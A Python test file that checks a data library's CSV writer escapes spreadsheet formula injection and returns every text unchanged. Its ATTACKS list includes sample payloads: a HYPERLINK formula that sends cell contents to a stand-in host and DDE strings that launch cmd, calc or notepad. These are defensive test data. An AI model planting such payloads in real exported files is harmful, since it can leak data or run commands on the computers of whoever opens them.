"""No text that we write is a formula to a spreadsheet, and every text comes back as it was.

What a formula begins with: OWASP, "CSV Injection", https://owasp.org/www-community/attacks.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from usl.data.formulas import guarded, guarded_column, unguarded, unguarded_column
from usl.data.tables import column_names, csv_text, read_text_table
from usl.run.by_hand import _copy_changed
from usl.run.predictions import prediction_table, write_predictions
from usl.run.split import Split
from usl.run.split_csv import rewrite
from usl.run.tables import write_table

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A2;"cat")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "=",
    "-",
)
KEPT = ("'", "''", "'tis", "cat's", "a=b", "x@y", "-1.5", "+3", "-1e5", "-.5", "")
ESCAPED = ("'=1+1", "''=1", "'-1", "' =1")  # they look like what is written for another
CELLS = st.text(st.sampled_from("=+-@'\t\r\n \"a1.e,;\uff1d\u00e9|")) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0")
)


def is_number(text):
    try:
        return np.isfinite(float(text)) and text.isascii() and "_" not in text
    except ValueError:
        return False


def harmless(cell):
    """No program would run the cell, whatever blanks it strips."""
    return not cell.startswith(TRIGGERS) and not cell.strip(" ").startswith(TRIGGERS[:4])


@settings(deadline=None)
@given(CELLS)
def test_any_text_comes_back(text):
    written = guarded(text)
    assert unguarded(written) == text
    assert harmless(written) or is_number(written)
    assert written in (text, f"'{text}")
    column = pa.array([text, None, "plain"])
    assert guarded_column(column).to_pylist() == [written, None, "plain"]
    assert unguarded_column(guarded_column(column)).to_pylist() == [text, None, "plain"]
    assert unguarded_column(column).to_pylist()[0] == unguarded(text)


@settings(deadline=None)
@given(CELLS, CELLS)
def test_no_two_texts_are_written_alike(one, other):
    assert (guarded(one) == guarded(other)) == (one == other)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_gets_an_apostrophe(text):
    assert guarded(text) == f"'{text}"
    assert guarded(guarded(text)) == f"''{text}"


def test_what_would_not_run_stays_as_it_is():
    assert [guarded(text) for text in KEPT] == list(KEPT)
    assert [guarded(text) for text in ESCAPED] == [f"'{text}" for text in ESCAPED]
    numbers = pa.array([-1.5, 2.0])
    assert guarded_column(numbers) is numbers


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(CELLS.filter(lambda text: text.strip() != ""), min_size=1, max_size=5))
def test_a_table_comes_back_and_its_numbers_are_numbers(tmp_path, texts):
    numbers = [-1.5 * n for n in range(len(texts))]
    path = tmp_path / "table.csv"
    table = pa.table({"name": texts, "figure": numbers})
    text = csv_text(["name", "figure"], table.columns)
    path.write_text(text, encoding="utf-8", newline="")
    assert read_text_table(path).values("name") == texts
    assert [float(cell) for cell in read_text_table(path).values("figure")] == numbers
    for row in csv.reader(io.StringIO(text)):
        assert harmless(row[0]) or is_number(row[0])
    write_table(path, table)
    assert read_text_table(path).values("name") == texts
    assert [float(cell) for cell in read_text_table(path).values("figure")] == numbers
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            assert harmless(row[0]) or is_number(row[0])


def test_a_column_may_be_called_like_a_formula(tmp_path):
    path = tmp_path / "table.csv"
    path.write_text(csv_text(["=1+1", "b"], [pa.array(["x"]), pa.array(["y"])]))
    assert path.read_text() == "'=1+1,b\nx,y\n"
    assert column_names(path) == list(read_text_table(path).columns) == ["=1+1", "b"]


IDS = ["=1.jpg", "+2.jpg", "-3.jpg", "@4.jpg", "'=5.jpg", "6.jpg"]
LABELS = ["=HYPERLINK(1)", "@SUM", "+cmd|'x'!A0", "-1", "'=1+1", "cat"]


@pytest.fixture
def split():
    return Split.start(IDS, ["train"] * 6, picks=range(6)).with_labels(
        np.arange(6), np.array(LABELS, dtype=object), source="human"
    )


def test_the_split_file_is_harmless_and_joinable(split, tmp_path):
    split.write(tmp_path)
    found = Split.read(tmp_path)
    assert found.ids.tolist() == IDS
    assert found.labels.tolist() == LABELS
    with open(tmp_path / "split.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["'=1.jpg", "train", "labeled", "'=HYPERLINK(1)", "1", "human"]
    assert all(harmless(cell) or is_number(cell) for row in rows for cell in row)


def test_a_column_of_the_users_own_stays_as_it_is(split, tmp_path):
    split.write(tmp_path)
    lines = (tmp_path / "split.csv").read_text().splitlines()
    notes = ["-n", "=A1", "'=B", "- x", *"abc"]
    lines = [f"{line},{note}" for line, note in zip(lines, notes, strict=True)]
    (tmp_path / "split.csv").write_text("\n".join(lines) + "\n")
    rewrite(Split.read(tmp_path))
    assert (tmp_path / "split.csv").read_text().splitlines() == lines
    rewrite(Split.read(tmp_path))
    assert (tmp_path / "split.csv").read_text().splitlines() == lines


def test_what_a_person_types_is_taken_as_typed(split, tmp_path):
    split.write(tmp_path)
    text = (tmp_path / "split.csv").read_text().replace("cat", "=dog").replace("'@SUM", "@SUM")
    (tmp_path / "split.csv").write_text(text)
    assert Split.read(tmp_path).labels.tolist()[-1] == "=dog"
    assert Split.read(tmp_path).labels.tolist()[1] == "@SUM"


def test_predictions_are_harmless_and_as_they_were_written(tmp_path):
    nobody = np.zeros(2, dtype=bool)
    table = prediction_table(
        np.array(["=1", "-2"]),
        np.array(["train"] * 2),
        np.arange(2),
        np.ones(2),
        ["@a", "b"],
        nobody,
    )
    write_predictions(tmp_path, table)
    assert read_text_table(tmp_path / "predictions.csv").values("image_id") == ["=1", "-2"]
    assert '"\'=1"' in (tmp_path / "predictions.csv").read_text()
    assert not _copy_changed(tmp_path, tmp_path, "predictions")
    text = (tmp_path / "predictions.csv").read_text()
    (tmp_path / "predictions.csv").write_text(text.replace("'=", "=").replace("'@", "@"))
    assert not _copy_changed(tmp_path, tmp_path, "predictions")  # as an older version wrote it
    (tmp_path / "predictions.csv").write_text(text.replace("b", "c"))
    assert _copy_changed(tmp_path, tmp_path, "predictions")
